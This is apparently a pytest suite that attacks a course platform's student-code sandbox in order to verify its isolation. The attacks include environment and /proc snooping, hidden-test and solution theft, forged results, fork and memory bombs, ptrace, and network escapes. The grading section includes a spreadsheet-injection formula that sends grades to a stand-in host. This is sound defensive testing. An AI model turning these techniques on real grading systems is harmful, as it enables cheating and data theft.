"""Adversarial suite: student code trying to escape the sandbox, through public entry points only.

Each test is one attack and FAILS if the attack works. Entry points:

* exercise checks — ``checker.check_attempt(exercise_id, code)``, run in a stand-in agent
  process (agent_process.py) whose environment holds canary secrets, so an attack on "the
  parent" (kill, signals, ptrace, reading its memory) hits that process, never pytest;
* ``learnflow-agents course grade`` as a real subprocess over a class of hostile students;
* the debug agent's fix verification (``fix_verifier.verify_fix``);
* code review's run of a student's own tests (``student_tests.run_tests``).

Most attacks pair with an *oracle* solution (student_attacks.py): it answers correctly only
while the attack found nothing, so the safe outcome is a passing check, and any loot the
attack found is printed, then decoded here and searched for the secrets.
"""

from __future__ import annotations

import base64
import contextlib
import copy
import csv
import json
import os
import secrets
import shutil
import socket
import subprocess
import sys
import sysconfig
import time
from pathlib import Path

import pytest

from tests.sandbox import student_attacks as attacks
from tests.sandbox.escape_helpers import (
    REPO,
    AgentRun,
    TcpListener,
    UdpListener,
    UnixListener,
    Zygote,
    decode_loot,
    files_containing,
    kill_processes_named,
    processes_named,
)

pytestmark = [pytest.mark.sandbox, pytest.mark.timeout(90)]


def _text(encoded: str) -> str:
    # Kept encoded so no file of this suite holds the secrets a student walks the disk for.
    return base64.b64decode(encoded).decode()


HIDDEN_TEXT = _text("c2hvdWxkIHJhaXNlIFZhbHVlRXJyb3I=")  # only in bank-account's hidden test
BANK_SOLUTION_TEXT = _text("cmVmdXNlZCB3aXRoZHJhd2FsIGxlYXZlcyBubyB0cmFjZQ==")  # bank-account's solution
EVENS_SOLUTION_TEXT = _text("U3VtIG9mIHRoZSBldmVuIG51bWJlcnMgaW4=")  # sum-of-evens' solution


# --- fixtures -----------------------------------------------------------------------------


_TAG = secrets.token_hex(8)
CANARY_ENV = {
    "LEARNFLOW_CANARY": f"lfcanary-{_TAG}",
    "ANTHROPIC_API_KEY": f"sk-ant-canary-{_TAG}",
    "DATABASE_URL": f"postgresql://learnflow:canary-{_TAG}@127.0.0.1:5432/learnflow",
}
CANARIES = [f"lfcanary-{_TAG}", f"sk-ant-canary-{_TAG}", f"canary-{_TAG}"]
_ZYGOTE: list[Zygote] = []


@pytest.fixture(scope="module", autouse=True)
def _agent_zygote(tmp_path_factory: pytest.TempPathFactory):
    """The pre-imported agent process every check forks from; its environment holds the canaries."""
    zygote = Zygote({**os.environ, **CANARY_ENV}, tmp_path_factory.mktemp("agent-logs"))
    _ZYGOTE.append(zygote)
    yield zygote
    _ZYGOTE.remove(zygote)
    zygote.close()


def run_agent(request: dict, *, timeout: float = 60.0, cwd: Path | None = None) -> AgentRun:
    zygote = _ZYGOTE[-1]
    if not zygote.alive():  # an attack took it down: note it, and go on with a fresh one
        _ZYGOTE[-1] = zygote = Zygote({**os.environ, **CANARY_ENV}, zygote.workdir)
    return zygote.run(request, timeout=timeout, cwd=cwd)


@pytest.fixture(autouse=True)
def canaries(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """Secrets in the calling processes' environments, as an agent would hold them."""
    for key, value in CANARY_ENV.items():
        monkeypatch.setenv(key, value)
    return CANARIES


@pytest.fixture
def token() -> str:
    return secrets.token_hex(4)


@pytest.fixture
def listener():
    server = TcpListener()
    yield server
    server.close()


def _no_canary(run: AgentRun, canaries: list[str]) -> None:
    leaked = [c for c in canaries if c in run.everything]
    assert not leaked, f"a canary secret reached the student-visible result ({len(leaked)} of them)"


def check(
    exercise_id: str, code: str, *, fast: bool = False, hidden: bool = True, timeout: float = 60.0, **kw
) -> AgentRun:
    """check_attempt in a fresh agent process. hidden=False (visible tests only: one sandbox run
    fewer) where the attack does not concern hidden tests or scores, to keep the suite fast."""
    request = {
        "mode": "check",
        "exercise_id": exercise_id,
        "code": code,
        "fast": fast,
        "include_hidden": hidden,
    }
    return run_agent(request, timeout=timeout, **kw)


def _passed(run: AgentRun) -> bool:
    return bool(run.check()["passed"])


def _sentinel_seen(run: AgentRun) -> bool:
    return str(attacks.SENTINEL) in json.dumps(run.result)


def _safe_oracle(run: AgentRun, canaries: list[str], what: str) -> None:
    """The attack found nothing: no loot, and the oracle solution passed every test."""
    result = run.check()
    _no_canary(run, canaries)
    assert not run.loot_labels, f"{what}: the attack got {run.loot_labels}"
    assert result["passed"], f"{what}: the oracle solution failed, so the attack found something"


def _cleanup(*paths: Path) -> list[str]:
    """Remove what an attack managed to write; return which ones existed."""
    existed = []
    for path in paths:
        if path.exists() or path.is_symlink():
            existed.append(str(path))
            with contextlib.suppress(OSError):
                path.unlink()
    return existed


# === 1. other processes and their environments ===========================================


def test_check_reads_parent_environ(canaries: list[str], token: str) -> None:
    drops = [Path(f"/tmp/lf-loot-{token}"), Path.home() / f".lf-loot-{token}"]
    attack = attacks.PARENT_ENVIRON + (
        "\nfor _p in _CFG['drops']:\n    try:\n        open(_p, 'w').write('\\n'.join(_FOUND))\n"
        "    except Exception:\n        pass\n"
    )
    code = attacks.program({"drops": [str(p) for p in drops]}, attack)
    try:
        run = check("sum-of-evens", code, hidden=False)
        for path in drops:
            if path.exists():
                assert not any(c in path.read_text(errors="replace") for c in canaries), (
                    f"the parent's secrets were written to {path}"
                )
        _safe_oracle(run, canaries, "/proc/<ppid>/environ")
    finally:
        _cleanup(*drops)


def test_check_lists_other_processes(canaries: list[str]) -> None:
    run = check("sum-of-evens", attacks.program({}, attacks.ALL_PROCESSES), hidden=False)
    _safe_oracle(run, canaries, "/proc/<pid>/environ and cmdline of other processes")


def test_check_reads_pid_one(canaries: list[str]) -> None:
    run = check("sum-of-evens", attacks.program({}, attacks.PID_ONE), hidden=False)
    _safe_oracle(run, canaries, "/proc/1/environ")
    host_init = Path("/proc/1/cmdline").read_bytes().split(b"\0")[0].decode(errors="replace")
    seen = [data for label, data in run.loot if label == "info-cmdline-of-pid-1"]
    assert not (host_init and any(data.startswith(host_init) for data in seen)), (
        "student code sees this machine's init process (no PID namespace)"
    )


def test_check_own_environment_is_clean(canaries: list[str]) -> None:
    run = check("sum-of-evens", attacks.program({}, attacks.OWN_ENVIRON), hidden=False)
    _safe_oracle(run, canaries, "the child's own environment")


def test_check_reads_parent_memory(canaries: list[str]) -> None:
    run = check("sum-of-evens", attacks.program({}, attacks.PARENT_MEMORY), hidden=False)
    _safe_oracle(run, canaries, "/proc/<ppid>/mem")


# === 2. hidden tests =======================================================================


def _hidden_cfg() -> dict:
    return {"hidden": attacks.b64(HIDDEN_TEXT)}


@pytest.mark.parametrize(
    "attack",
    [
        pytest.param(attacks.HIDDEN_IN_FILES, id="files-in-cwd-tmp-home"),
        pytest.param(attacks.HIDDEN_IN_ARGV, id="argv-cmdline-open-fds"),
        pytest.param(attacks.HIDDEN_IN_GC, id="gc-get-objects"),
        pytest.param(attacks.HIDDEN_IN_FRAMES, id="getframe-chain"),
        pytest.param(attacks.HIDDEN_IN_GLOBALS, id="caller-globals-sys-modules"),
    ],
)
def test_check_reads_hidden_tests(attack: str, canaries: list[str]) -> None:
    run = check("bank-account", attacks.program(_hidden_cfg(), attack, attacks.BANK_ACCOUNT))
    assert not run.loot_containing(HIDDEN_TEXT), f"hidden test text read via {run.loot_labels}"
    _safe_oracle(run, canaries, "hidden tests")


# === 3. solutions ===========================================================================


def test_check_reads_solution_by_path(canaries: list[str]) -> None:
    paths = files_containing(BANK_SOLUTION_TEXT, [REPO / "agents"])
    assert paths, "test setup: the bank-account solution is not stored under the repo's agents/ any more"
    dirs = sorted({str(Path(p).parent) for p in paths})
    cfg = {"solution": attacks.b64(BANK_SOLUTION_TEXT), "solution_paths": paths, "solution_dirs": dirs}
    run = check("bank-account", attacks.program(cfg, attacks.SOLUTION_BY_PATH, attacks.BANK_ACCOUNT))
    assert not run.loot_containing(BANK_SOLUTION_TEXT), f"solution read via {run.loot_labels}"
    _safe_oracle(run, canaries, "solution by file path")


def test_check_reads_solution_by_import(canaries: list[str]) -> None:
    cfg = {"solution": attacks.b64(BANK_SOLUTION_TEXT)}
    run = check("bank-account", attacks.program(cfg, attacks.SOLUTION_BY_IMPORT, attacks.BANK_ACCOUNT))
    assert not run.loot_containing(BANK_SOLUTION_TEXT), f"solution read via {run.loot_labels}"
    _safe_oracle(run, canaries, "solution by import")


def test_check_finds_solution_walking_sys_path_and_repo(canaries: list[str]) -> None:
    cfg = {"solution": attacks.b64(BANK_SOLUTION_TEXT), "repo": str(REPO)}
    run = check("bank-account", attacks.program(cfg, attacks.SOLUTION_BY_WALKING, attacks.BANK_ACCOUNT))
    assert not run.loot_containing(BANK_SOLUTION_TEXT), f"solution found via {run.loot_labels}"
    _safe_oracle(run, canaries, "walking sys.path, site-packages and the repo")


# === 4. forged results ======================================================================

FORGERIES = [
    pytest.param(attacks.program({}, attacks.FORGE_RESULTS_FILE, attacks.SUM_EVENS_STUB), id="results-file"),
    pytest.param(attacks.program({}, attacks.FORGE_FRAMES, attacks.SUM_EVENS_STUB), id="frame-patching"),
    pytest.param(
        attacks.program({}, attacks.FORGE_HARNESS_FUNCTIONS, attacks.SUM_EVENS_STUB), id="harness-functions"
    ),
    pytest.param(attacks.program({}, attacks.FORGE_BUILTINS, attacks.SUM_EVENS_STUB), id="builtins"),
    pytest.param(attacks.program({}, "", attacks.FORGE_ALWAYS_EQUAL), id="always-equal-int"),
    pytest.param(attacks.program({}, "", attacks.FORGE_ALWAYS_EQUAL_OBJECT), id="always-equal-object"),
    pytest.param(attacks.program({}, attacks.FORGE_ATEXIT, attacks.SUM_EVENS_STUB), id="atexit"),
    pytest.param(attacks.program({}, "", attacks.FORGE_EXIT_AFTER_PRINT), id="os-exit-after-print"),
    pytest.param(attacks.program({}, attacks.FORGE_FD_SPRAY, attacks.SUM_EVENS_STUB), id="fd-0-20-spray"),
]


@pytest.mark.parametrize("code", FORGERIES)
def test_check_forged_result_scores_zero(code: str, canaries: list[str]) -> None:
    result = check("sum-of-evens", code).check()
    assert not result["passed"], "a stub that only forges passed"
    assert result["score"] == 0.0 and result["points"] == 0, f"a forging stub scored {result['score']}"
    assert not any(t["passed"] for t in result["tests"])


@pytest.mark.parametrize(
    ("exercise_id", "function"),
    [
        pytest.param("sum-of-evens", "def sum_evens(numbers):\n    return _Float(-1)\n", id="float"),
        pytest.param(
            "word-frequency",
            "def word_counts(text):\n    return _Dict()\n\n\ndef top_words(text, n):\n    return _List()\n",
            id="dict-and-list",
        ),
        pytest.param("remove-all", "def remove_all(items, value):\n    return _List()\n", id="list"),
        pytest.param("clean-username", "def clean_username(raw):\n    return _Str('?')\n", id="str"),
    ],
)
def test_check_always_equal_builtin_subclasses(exercise_id: str, function: str, canaries: list[str]) -> None:
    result = check(exercise_id, attacks.ALWAYS_EQUAL_SUBCLASSES + function, hidden=False).check()
    assert result["score"] == 0.0 and not result["passed"], (
        f"an always-equal subclass scored {result['score']}"
    )


@pytest.mark.parametrize(
    ("exercise_id", "code"),
    [
        pytest.param("word-frequency", attacks.NESTED_ALWAYS_EQUAL_WORDS, id="dict-values-and-tuples"),
        pytest.param("remove-all", attacks.NESTED_ALWAYS_EQUAL_LIST, id="list-items"),
    ],
)
def test_check_always_equal_objects_nested_in_containers(
    exercise_id: str, code: str, canaries: list[str]
) -> None:
    result = check(exercise_id, code, hidden=False).check()
    assert result["score"] == 0.0 and not result["passed"], (
        f"nested always-equal objects scored {result['score']}"
    )


def test_check_always_equal_objects_for_a_class_exercise(canaries: list[str]) -> None:
    result = check("bank-account", attacks.BANK_ACCOUNT_ALWAYS_EQUAL).check()
    assert not result["passed"] and result["score"] == 0.0, f"always-equal objects scored {result['score']}"


def test_check_builtins_injected_through_module_names(canaries: list[str]) -> None:
    honest = check("bank-account", attacks.BANK_ACCOUNT_PARTIAL).check()
    forged = check("bank-account", attacks.BANK_ACCOUNT_PARTIAL + attacks.FORGE_BUILTINS_INJECTION).check()
    assert honest["score"] == pytest.approx(2 / 3, abs=1e-4), "test setup: the honest partial scores 2/3"
    assert forged["score"] <= honest["score"] and not forged["passed"], (
        f"top-level __builtins__/AssertionError/_lf_compare names lifted the score to {forged['score']}"
    )


def test_check_exception_in_a_pipelined_call_is_not_lost(canaries: list[str]) -> None:
    result = check("lru-cache", attacks.LRU_RAISING_IN_A_STATEMENT, hidden=False).check()
    by_name = {t["name"]: t for t in result["tests"]}
    assert not by_name["evicts the least recently used"]["passed"], "a call that raised was dropped"
    assert by_name["stores and returns values"]["passed"], "test setup: the rest of the cache works"


def test_check_with_block_exception_is_not_swallowed_by_student_code(canaries: list[str]) -> None:
    honest = check("inventory-report", attacks.INVENTORY_PARTIAL).check()
    forged = check("inventory-report", attacks.INVENTORY_PARTIAL + attacks.FORGE_SWALLOWING_WITH).check()
    assert honest["score"] == pytest.approx(1 / 3, abs=1e-4), "test setup: the honest partial scores 1/3"
    assert forged["score"] <= honest["score"] and not forged["passed"], (
        f"an __exit__ returning True in the child swallowed the test's failure: {forged['score']}"
    )


@pytest.mark.parametrize("base", ["KeyboardInterrupt", "GeneratorExit", "BaseException", "SystemExit"])
def test_check_base_exception_from_student_stays_in_the_sandbox(base: str, canaries: list[str]) -> None:
    run = check("sum-of-evens", attacks.RAISE_BASE_EXCEPTION_AT_LOAD % base)
    result = run.check()  # the agent process got a result instead of the student's exception
    assert not result["passed"] and result["score"] == 0.0


# === 5. writing outside the working directory ================================================


def _write_case(paths: list[Path], canaries: list[str], cwd: Path | None = None) -> None:
    code = attacks.program({"paths": [str(p) for p in paths]}, attacks.WRITE_FILES)
    try:
        run = check("sum-of-evens", code, cwd=cwd, hidden=False)
        run.check()
        written = [str(p) for p in paths if p.exists()]
        assert not written, f"student code wrote {written}"
        _no_canary(run, canaries)
    finally:
        _cleanup(*paths)


def test_check_writes_tmp(token: str, canaries: list[str]) -> None:
    _write_case([Path(f"/tmp/escape-marker-{token}"), Path(f"/var/tmp/escape-marker-{token}"),
                 Path(f"/dev/shm/escape-marker-{token}")], canaries)  # fmt: skip


def test_check_writes_repo_and_site_packages(token: str, canaries: list[str]) -> None:
    package_dir = REPO / "agents" / "learnflow_agents" / "tutors" / "exercise"
    site_packages = Path(sysconfig.get_paths()["purelib"])
    _write_case([REPO / f".escape-marker-{token}", package_dir / f".escape-marker-{token}",
                 site_packages / f"escape-marker-{token}.txt"], canaries)  # fmt: skip


def test_check_writes_home_and_agent_cwd(token: str, canaries: list[str], tmp_path: Path) -> None:
    # The agent process runs in tmp_path: its working directory is outside the sandbox's.
    paths = [Path.home() / f".escape-marker-{token}", tmp_path / f".escape-marker-{token}"]
    _write_case(paths, canaries, cwd=tmp_path)


def test_check_host_files_are_read_only(token: str, canaries: list[str]) -> None:
    _write_case([Path(f"/etc/escape-marker-{token}"), Path(f"/usr/local/escape-marker-{token}")], canaries)


# === 6. network =============================================================================


def test_check_connects_to_postgres(canaries: list[str]) -> None:
    run = check(
        "sum-of-evens", attacks.program({"targets": [["127.0.0.1", 5432]]}, attacks.TCP_CONNECT), hidden=False
    )
    assert "connected" not in run.loot_labels, "student code opened a TCP connection to PostgreSQL"
    _safe_oracle(run, canaries, "TCP to 127.0.0.1:5432")


def test_check_connects_to_local_listener(listener: TcpListener, canaries: list[str]) -> None:
    code = attacks.program({"targets": [["127.0.0.1", listener.port]]}, attacks.TCP_CONNECT)
    run = check("sum-of-evens", code, hidden=False)
    time.sleep(0.3)
    assert listener.accepted == 0, "student code reached a listener on 127.0.0.1"
    _safe_oracle(run, canaries, "TCP to a local listener")


def test_check_udp_and_dns(canaries: list[str]) -> None:
    udp = UdpListener()
    try:
        run = check(
            "sum-of-evens", attacks.program({"udp_port": udp.port}, attacks.UDP_AND_DNS), hidden=False
        )
        time.sleep(0.3)
        assert udp.received() == 0, "student code sent a UDP (DNS-shaped) datagram to 127.0.0.1"
        _safe_oracle(run, canaries, "UDP / DNS")
    finally:
        udp.close()


def test_check_connects_to_unix_sockets(token: str, canaries: list[str]) -> None:
    path = Path(f"/tmp/lf-escape-{token}.sock")
    server = UnixListener(path)
    try:
        targets = [str(path), "/var/run/postgresql/.s.PGSQL.5432", "/run/postgresql/.s.PGSQL.5432"]
        run = check(
            "sum-of-evens", attacks.program({"unix_paths": targets}, attacks.UNIX_SOCKETS), hidden=False
        )
        time.sleep(0.3)
        assert server.accepted == 0, "student code connected to a host unix socket"
        _safe_oracle(run, canaries, "unix sockets")
    finally:
        server.close()
        _cleanup(path)


def _vsock_listener() -> tuple[socket.socket | None, int, int]:
    """A vsock listener of the test's own (never the hypervisor's services), if this machine has vsock."""
    try:
        server = socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)
        port = 40000 + secrets.randbelow(20000)
        server.bind((socket.VMADDR_CID_ANY, port))
        server.listen(4)
        server.setblocking(False)
    except (OSError, AttributeError):
        return None, 0, 0
    cid = 0
    with contextlib.suppress(OSError, ImportError), open("/dev/vsock", "rb") as device:
        import fcntl
        import struct

        cid = struct.unpack("I", fcntl.ioctl(device, 0x7B9, b"\0" * 4))[0]  # IOCTL_VM_SOCKETS_GET_LOCAL_CID
    return server, port, cid


def test_check_vsock_is_refused(canaries: list[str]) -> None:
    server, port, cid = _vsock_listener()
    try:
        run = check("sum-of-evens", attacks.program({"port": port, "cid": cid}, attacks.VSOCK), hidden=False)
        if server is not None:
            with contextlib.suppress(BlockingIOError):
                server.accept()
                pytest.fail("student code reached the test's vsock listener")
        assert "vsock-connected" not in run.loot_labels
        assert "vsock-socket" not in run.loot_labels, (
            "student code can create AF_VSOCK sockets, which network namespaces do not isolate"
        )
        _safe_oracle(run, canaries, "AF_VSOCK")
    finally:
        if server is not None:
            server.close()


# === 7. processes and resources ==============================================================


def test_check_fork_bomb_is_bounded(token: str, canaries: list[str]) -> None:
    comm = f"lfbomb{token}"
    cfg = {"forks": 300, "comm": comm}
    try:
        run = check("sum-of-evens", attacks.program(cfg, attacks.FORK_BOMB), fast=True, hidden=False)
        run.check()
        time.sleep(0.5)
        left = processes_named(comm)
        assert not left, f"{len(left)} forked processes outlived the check"
        assert "forked" not in run.loot_labels, "300 processes were started: no process limit"
        _no_canary(run, canaries)
    finally:
        kill_processes_named(comm)


def test_check_setsid_survivor(token: str, listener: TcpListener, canaries: list[str]) -> None:
    comm = f"lfsurv{token}"
    marker = Path(f"/tmp/escape-survivor-{token}")
    cfg = {"comm": comm, "marker": str(marker), "port": listener.port}
    try:
        run = check("sum-of-evens", attacks.program(cfg, attacks.SURVIVOR), hidden=False)
        run.check()
        returned = time.monotonic()
        time.sleep(1.6)
        assert listener.accepted_after(returned) == 0, "a grandchild reached the listener after the check"
        assert not processes_named(comm), "a setsid grandchild outlived the check"
        assert not marker.exists(), "a grandchild wrote outside the sandbox"
        assert listener.accepted == 0
    finally:
        kill_processes_named(comm)
        _cleanup(marker)


def test_check_memory_bomb(canaries: list[str]) -> None:
    run = check("sum-of-evens", attacks.program({}, attacks.MEMORY_BOMB), fast=True, hidden=False)
    run.check()
    assert "allocated" not in run.loot_labels, "student code allocated 2 GiB: no memory limit"
    _no_canary(run, canaries)


def test_check_memory_bomb_through_memfds(canaries: list[str]) -> None:
    # 40 memfds of 32 MiB: 1.25 GiB of host memory while the child's RLIMIT_AS is 512 MiB.
    cfg = {"files": 40, "limit": 1 << 30}
    run = check("sum-of-evens", attacks.program(cfg, attacks.MEMFD_BOMB), hidden=False)
    assert "memfd-memory" not in run.loot_labels, "student code held 1 GiB in memfds, past its memory limit"
    # Stopping the whole check (killing the jail) is a safe outcome too: no oracle pass required.
    run.check()
    _no_canary(run, canaries)


def test_check_infinite_loop_swallowing_base_exception(canaries: list[str]) -> None:
    code = attacks.program({}, "", attacks.LOOP_SWALLOWING_EVERYTHING)
    run = check("sum-of-evens", code, fast=True, timeout=75, hidden=False)
    result = run.check()
    assert not result["passed"]
    assert run.seconds < 60, f"an unstoppable loop held the check for {run.seconds:.0f} s"


def test_check_huge_output(canaries: list[str]) -> None:
    run = check(
        "sum-of-evens", attacks.program({}, "", attacks.HUGE_OUTPUT), fast=True, timeout=75, hidden=False
    )
    result = run.check()
    assert not result["passed"]
    size = len(run.stdout) + len(run.stderr)
    assert size < 2_000_000, f"{size} characters of student output reached the caller"


def test_check_student_code_is_not_root_on_the_host(canaries: list[str]) -> None:
    run = check("sum-of-evens", attacks.program({}, attacks.HOST_ROOT), hidden=False)
    assert "host-root" not in run.loot_labels, "student code runs as uid 0 of the host (no separate uid)"
    assert "capabilities" not in run.loot_labels, "student code holds capabilities"
    _safe_oracle(run, canaries, "host uid / capabilities")


def test_check_no_way_back_to_root_through_setuid_binaries(canaries: list[str]) -> None:
    run = check("sum-of-evens", attacks.program({}, attacks.SETUID_WAY_BACK), hidden=False)
    assert "setuid-root-exec" not in run.loot_labels, (
        "a setuid-root binary is executable on a mount without nosuid while no_new_privs is off"
    )
    assert "capabilities" not in run.loot_labels, "student code holds capabilities"
    _safe_oracle(run, canaries, "setuid binaries / capabilities")


def test_check_disk_fill_is_bounded(canaries: list[str]) -> None:
    # 9 files of 32 MiB, each under the file-size limit: 288 MiB of host disk unless the total is capped.
    cfg = {"files": 9, "limit": 256 << 20}
    run = check("sum-of-evens", attacks.program(cfg, attacks.DISK_FILL), hidden=False)
    assert "disk-unbounded" not in run.loot_labels, (
        "student code wrote 256+ MiB to the host's disk in one check"
    )
    # Stopping the whole check (killing the jail) is a safe outcome too: no oracle pass required.
    run.check()
    _no_canary(run, canaries)


def test_check_inode_flood_is_bounded(canaries: list[str]) -> None:
    # 150,000 empty files: ~150 MiB of the host's kernel memory per run if the file count is not capped.
    cfg = {"files": 150_000}
    run = check("sum-of-evens", attacks.program(cfg, attacks.INODE_FLOOD), hidden=False)
    assert "inodes-unbounded" not in run.loot_labels, "student code created 150,000 files in one check"
    # Stopping the whole check (killing the jail) is a safe outcome too: no oracle pass required.
    run.check()
    _no_canary(run, canaries)


def test_check_sys_exit(canaries: list[str]) -> None:
    result = check("sum-of-evens", attacks.program({}, "", attacks.SYS_EXIT), hidden=False).check()
    assert not result["passed"] and result["score"] == 0.0


def test_check_kills_parent(canaries: list[str]) -> None:
    run = check("sum-of-evens", attacks.program({}, attacks.KILL_PARENT), hidden=False)
    assert run.check()["passed"], "the check did not complete normally after os.kill(os.getppid(), 9)"


def test_check_killpg_parent_group(canaries: list[str]) -> None:
    run = check("sum-of-evens", attacks.program({}, attacks.KILLPG_PARENT), hidden=False)
    assert run.check()["passed"], "the check did not complete normally after os.killpg on the parent's group"


def test_check_signals_parent(canaries: list[str]) -> None:
    run = check("sum-of-evens", attacks.program({}, attacks.SIGNAL_PARENT), timeout=25, hidden=False)
    run.check()
    assert "signalled-parent" not in run.loot_labels, f"signals reached the parent: {run.loot}"


def test_check_ptrace_parent_with_ctypes(canaries: list[str]) -> None:
    run = check("sum-of-evens", attacks.program({}, attacks.PTRACE_PARENT), hidden=False)
    assert "ptrace-seized-parent" not in run.loot_labels, "student code ptrace-attached to its parent"
    _safe_oracle(run, canaries, "ptrace via ctypes")


def test_check_raw_syscalls_with_ctypes(token: str, listener: TcpListener, canaries: list[str]) -> None:
    marker = Path(f"/tmp/escape-raw-{token}")
    try:
        cfg = {"port": listener.port, "marker": str(marker)}
        run = check("sum-of-evens", attacks.program(cfg, attacks.RAW_SYSCALLS), hidden=False)
        time.sleep(0.3)
        assert listener.accepted == 0, "a raw socket()/connect() syscall reached the listener"
        assert not marker.exists(), "a raw openat() syscall created a file outside the sandbox"
        _safe_oracle(run, canaries, "raw syscalls via ctypes")
    finally:
        _cleanup(marker)


# === 8. course grade ==========================================================================

_BOB_SECRET = "bob-private-" + "7f3c9e21"
_FORMULA = '=HYPERLINK("https://example.invalid/?grades="&A2,"details")'
_VICTIM_CODE = f"# {_BOB_SECRET}\ndef sum_evens(numbers):\n    return sum(n for n in numbers if n % 2 == 0)\n"


def _bank_notebook(name: str) -> Path:
    from learnflow_agents.tutors.exercise import bank

    roots = [Path(getattr(bank, "BANK_DIR", REPO / "agents")), REPO / "agents"]
    for root in roots:
        found = [
            p for p in root.rglob(name) if "released" not in p.parts and ".ipynb_checkpoints" not in p.parts
        ]
        if found:
            return found[0]
    raise FileNotFoundError(name)


class _Class:
    """One `course grade` run over a class of students, most of them hostile."""

    def __init__(
        self,
        root: Path,
        canaries: list[str],
        codes: dict[str, str] | None = None,
        raw_files: dict[str, bytes] | None = None,
    ) -> None:
        from learnflow_agents.course import release_course
        from learnflow_agents.tutors.exercise.bank import cell_role
        from learnflow_agents.tutors.exercise.notebooks import read_notebook, write_notebook

        self.source = root / "source"
        self.source.mkdir()
        shutil.copy(_bank_notebook("sum-of-evens.ipynb"), self.source / "sum-of-evens.ipynb")
        released = root / "released"
        release_course(self.source, released)
        student_notebook = read_notebook(next(released.rglob("sum-of-evens.ipynb")))
        assert EVENS_SOLUTION_TEXT not in json.dumps(student_notebook), "test setup: released notebook has it"
        self.submissions = root / "submissions"
        self.out = root / "out"
        victim = self.submissions / "zoe-victim" / "sum-of-evens.ipynb"
        self.victim_path = victim
        codes = codes or {
            "honest-partial": attacks.SUM_EVENS_PARTIAL,
            "forge-results-file": attacks.program({}, attacks.FORGE_RESULTS_FILE, attacks.SUM_EVENS_STUB),
            "forge-frames": attacks.program({}, attacks.FORGE_FRAMES, attacks.SUM_EVENS_PARTIAL),
            "forge-always-equal": attacks.program({}, "", attacks.FORGE_ALWAYS_EQUAL),
            "reader": attacks.program(
                {"victim": attacks.b64(_BOB_SECRET), "guesses": [str(victim), str(self.submissions)]},
                attacks.READ_OTHER_STUDENT,
            ),
            "source-reader": attacks.program(
                {"solution": attacks.b64(EVENS_SOLUTION_TEXT), "guesses": [str(self.source)]},
                attacks.READ_COURSE_SOURCE,
            ),
            "tamperer": attacks.program({"victims": [str(victim)]}, attacks.TAMPER_OTHER_STUDENT),
            "zoe-victim": _VICTIM_CODE,
            "csv-injector": _VICTIM_CODE,
        }
        for student, code in codes.items():
            notebook = copy.deepcopy(student_notebook)
            for cell in notebook["cells"]:
                if cell_role(cell) == "starter":
                    cell["source"] = code
            if student == "csv-injector":
                # The exercise id comes from the notebook's metadata, which the student controls.
                notebook.setdefault("metadata", {}).setdefault("learnflow", {})["exercise_id"] = _FORMULA
            write_notebook(notebook, self.submissions / student / "sum-of-evens.ipynb")
        for student, data in (raw_files or {}).items():
            (self.submissions / student).mkdir(parents=True, exist_ok=True)
            (self.submissions / student / "sum-of-evens.ipynb").write_bytes(data)
        self.victim_before = victim.read_bytes() if victim.exists() else b""
        command = (
            shutil.which("learnflow-agents", path=str(Path(sys.executable).parent)) or "learnflow-agents"
        )
        started = time.monotonic()
        self.done = subprocess.run(
            [command, "course", "grade", str(self.submissions), "--source", str(self.source),
             "--out", str(self.out)],
            capture_output=True, text=True, timeout=240, cwd=root, start_new_session=True, check=False,
        )  # fmt: skip
        self.seconds = time.monotonic() - started
        self.victim_after = victim.read_bytes() if victim.exists() else b""
        self.rows: dict[str, dict] = {}
        self.report_text = ""
        if (self.out / "report.csv").exists():
            with (self.out / "report.csv").open(encoding="utf-8") as handle:
                self.rows = {row["student"]: row for row in csv.DictReader(handle)}
            self.report_text = (self.out / "report.json").read_text(encoding="utf-8")
        self.everything = "\n".join([self.done.stdout, self.done.stderr, self.report_text])
        self.loot = decode_loot(self.everything)
        self.canaries = canaries

    def __repr__(self) -> str:
        return f"<course grade exit={self.done.returncode} rows={sorted(self.rows)}>"

    def row(self, student: str) -> dict:
        assert self.done.returncode == 0, f"course grade failed: {self.done.stderr[-500:]}"
        assert student in self.rows, f"no report row for {student}"
        return self.rows[student]


@pytest.fixture(scope="module")
def graded(tmp_path_factory: pytest.TempPathFactory) -> _Class:
    tag = secrets.token_hex(8)
    canary_env = {
        "LEARNFLOW_CANARY": f"lfcanary-{tag}",
        "ANTHROPIC_API_KEY": f"sk-ant-canary-{tag}",
    }
    saved = {k: os.environ.get(k) for k in canary_env}
    os.environ.update(canary_env)
    try:
        return _Class(tmp_path_factory.mktemp("grade"), [f"lfcanary-{tag}", f"sk-ant-canary-{tag}"])
    finally:
        for key, value in saved.items():
            if value is None:
                os.environ.pop(key, None)
            else:
                os.environ[key] = value


@pytest.mark.parametrize(
    ("student", "honest"),
    [
        ("forge-results-file", None),
        ("forge-frames", "honest-partial"),
        ("forge-always-equal", None),
    ],
)
def test_grade_forged_submission_scores_as_honest_run(
    graded: _Class, student: str, honest: str | None
) -> None:
    row = graded.row(student)
    honest_score = float(graded.row(honest)["score"]) if honest else 0.0
    assert honest is None or honest_score == pytest.approx(2 / 3, abs=1e-4), (
        "test setup: honest partial is 2/3"
    )
    # Never more than the honest run of the same solution; a harness may score tampering lower.
    assert float(row["score"]) <= honest_score, (
        f"{student} scored {row['score']}, the honest run of its solution {honest_score:.4f}"
    )
    assert row["passed"] == "False"


def test_grade_student_reads_another_students_submission(graded: _Class) -> None:
    stolen = [label for label, data in graded.loot if _BOB_SECRET in data]
    assert not stolen, f"a student read another student's notebook via {stolen}"
    assert graded.row("reader")["score"] == "1.0000", (
        "the reader's oracle failed: it found the other notebook"
    )


def test_grade_student_tampers_with_another_students_submission(graded: _Class) -> None:
    assert graded.victim_after == graded.victim_before, "another student's submitted notebook was rewritten"
    assert graded.row("zoe-victim")["score"] == "1.0000", "the victim's grade changed"


def test_grade_student_reads_course_source(graded: _Class) -> None:
    found = [label for label, data in graded.loot if EVENS_SOLUTION_TEXT in data]
    assert not found, f"a student read the course source's solution via {found}"
    assert graded.row("source-reader")["score"] == "1.0000", "the oracle failed: it found the course source"


def test_grade_one_students_base_exception_does_not_abort_grading(
    tmp_path: Path, canaries: list[str]
) -> None:
    codes = {
        "a-stopper": attacks.RAISE_BASE_EXCEPTION_AT_LOAD % "KeyboardInterrupt",
        "b-honest": _VICTIM_CODE,
    }
    graded = _Class(tmp_path, canaries, codes)
    exit_code, students = graded.done.returncode, set(graded.rows)
    assert exit_code == 0 and students == set(codes), (
